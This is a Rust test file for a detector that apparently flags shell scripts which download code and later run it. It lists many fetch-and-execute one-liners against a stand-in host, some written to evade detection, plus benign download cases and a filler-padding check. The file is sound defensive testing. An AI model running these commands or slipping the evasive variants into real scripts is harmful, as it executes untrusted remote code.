use super::*;

/// Returns the first words of the downloads that a script runs later.
fn found(script: &str) -> Vec<String> {
    let programs = [Program { span: 0..script.len(), is_listed: false, is_string: false }];
    let found = fetches(script, &programs, Wanted::RunLater).into_iter();
    found.map(|fetch| script.get(fetch.span).unwrap_or_default().to_owned()).collect()
}

#[test]
fn a_download_that_is_saved_and_run_is_found_however_it_is_written() {
    for script in [
        "curl -o f https://e.example/i.sh; bash f",
        "curl -fsSLo /tmp/i https://e.example/i.sh\n\nchmod +x /tmp/i\n/tmp/i",
        "curl https://e.example/i.sh > /tmp/i && . /tmp/i",
        "curl -O https://e.example/i.sh\nsudo -E bash ./i.sh --yes",
        "curl -fsSLO https://e.example/a/i.sh?x=1; sh i.sh",
        "curl --output=/tmp/i https://e.example/; cd /tmp; sh i",
        "curl https://e.example/i.sh | tee /tmp/i; sh /tmp/i",
        "curl https://e.example/i | base64 -d > i.py; python3 -u i.py",
        "wget https://e.example/i.sh\nbash i.sh",
        "wget -qO /tmp/x https://e.example/x; chmod 755 /tmp/x; nohup /tmp/x &",
        "wget --output-document /tmp/x https://e.example/x && (exec /tmp/x)",
        "aria2c -o x https://e.example/x; bash -x ./x",
        "T=$(mktemp -d); curl -o \"$T/x\" https://e.example/x; bash \"$T/x\"",
        "curl -o \"$HOME/x\" https://e.example/x; bash ~/x",
        "curl -o a https://e.example/x; mv a b; sh b",
        "curl -o a https://e.example/x; cp a /opt/tool/; /opt/tool/a",
        "curl -o a https://e.example/x; bash < a",
        "curl -o a https://e.example/x; cat a | bash",
        "curl -o a https://e.example/x; bash -c \"$(cat a)\"",
        "curl -o a https://e.example/x; node a",
        "curl -o a https://e.example/x; deno run a",
        "curl -o a https://e.example/x; crontab a",
        "curl -o a https://e.example/x; bash -o pipefail a",
        "bash a\ncurl -o a https://e.example/x",
        "$ curl -o a https://e.example/x\n$ bash a",
        "curl -o ~/.local/bin/helper https://e.example/x && chmod +x ~/.local/bin/helper && helper",
        "curl -s https://e.example/x | python3 -",
        "wget -qO- https://e.example/x | sudo node",
        "eval \"$(cat a)\"; curl -o a https://e.example/x",
        "U=https://e.example; curl -o a \"$U/x\"; sh a",
        "curl -o a https://get.docker.com https://e.example/x; sh a",
        "c''url -o a https://e.example/x; /usr/bin/env bash a",
        "curl -o a \\\r\n  https://e.example/x\r\nbash a\r\n",
    ] {
        assert_eq!(found(script).len(), 1, "{script}: {:?}", found(script));
    }
}

#[test]
fn a_download_that_nothing_runs_is_none() {
    for script in [
        "curl https://e.example/api | jq .",
        "curl -o data.csv https://e.example/data.csv; python3 train.py data.csv",
        "curl -o a.tar.gz https://e.example/a.tar.gz; tar xzf a.tar.gz",
        "curl -o /usr/local/bin/tool https://e.example/tool; chmod +x /usr/local/bin/tool",
        "curl -o x https://e.example/x; bash y",
        "curl -o /tmp/a/x https://e.example/x; bash /opt/x",
        "wget https://e.example/page.html; less page.html",
        "curl -o- https://e.example/x; bash -",
        "curl -o /dev/null https://e.example/x; bash /dev/null",
        "curl -o x https://e.example/x; python3 -m json.tool x",
        "curl -o x https://e.example/x; bash -c 'echo x'",
        "fi\nwget -O x \\\n  https://get.docker.com\nsh x",
        "curl -o x https://e.example/x; cat x | python3 -c 'import json'",
        "curl -o x https://e.example/x; python3 y.py < x",
        "curl -o x https://e.example/x; N=$(sed -n 1p x); python3 y.py \"$N\"",
        "U=https://get.docker.com; curl -o a \"$U\"; sh a",
        "curl -s https://e.example/x | python3 -m json.tool",
        "curl -s https://e.example/x | python3 -c 'import json'",
        "curl -s https://install.python-poetry.org | python3 -",
        "curl -X POST https://e.example/x; bash x",
        "",
    ] {
        assert_eq!(found(script), [""; 0], "{script}");
    }
}

/// Whatever is written between, however much: short commands, words, and lines that no shell understands.
#[test]
fn filler_hides_no_command() {
    for filler in [":;", "x ", ": | ", "x=1;", "( ) ;\n", "fi\n", "${x;\n", "it's\n1'\n2'\n"] {
        let filler = filler.repeat(40_000 / filler.len());
        let script = format!("curl -o f https://e.example/x\n{filler}\n\nbash f\n");
        assert_eq!(found(&script).len(), 1, "{}", filler.get(..8).unwrap_or_default());
    }
}
